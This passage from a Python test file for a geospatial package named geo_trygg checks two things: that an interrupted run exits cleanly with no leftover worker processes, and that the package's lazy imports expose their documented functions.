    _, err = proc.communicate(timeout=120)
    assert "Traceback" not in err, err
    assert err.strip().splitlines()[-1] == "Avbrutet."
    assert proc.returncode == 130
    deadline = time.monotonic() + 10
    while True:  # no worker is left in the group
        try:
            os.killpg(proc.pid, 0)
        except ProcessLookupError:
            break
        assert time.monotonic() < deadline, "page workers still running"
        time.sleep(0.1)
    assert not out.exists()


def test_the_package_gives_its_subpackages_and_readers_on_first_use() -> None:
    # a fresh interpreter: `import geo_trygg` is lazy, yet every documented name is there
    code = (
        "import geo_trygg as gt, sys\n"
        "assert 'geopandas' not in sys.modules\n"
        "print(gt.io.read_points is gt.read_points, gt.lagesbild.build_lagesbild.__name__,\n"
        "      gt.maps.save_map.__name__, gt.read_findings.__name__, 'pack' in dir(gt))\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=ENV, check=True
    )
    assert out.stdout.split() == ["True", "build_lagesbild", "save_map", "read_findings", "True"]
